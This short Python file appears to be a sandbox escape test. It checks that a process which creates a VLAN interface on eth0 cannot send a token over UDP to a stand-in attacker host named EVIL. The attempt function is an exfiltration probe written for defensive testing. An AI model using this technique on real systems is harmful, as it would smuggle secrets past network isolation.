"""
how: an interface in another VLAN
expect: shut
unseen: a plain network would carry it, as it has a way there already
"""

from frames import changed
from land import EVIL
from sockets import udp


def attempt(token):
    return changed(
        ["link", "add", "link", "eth0", "name", "x0", "type", "vlan", "id", "10"], lambda: udp(EVIL, 9999, token)
    )
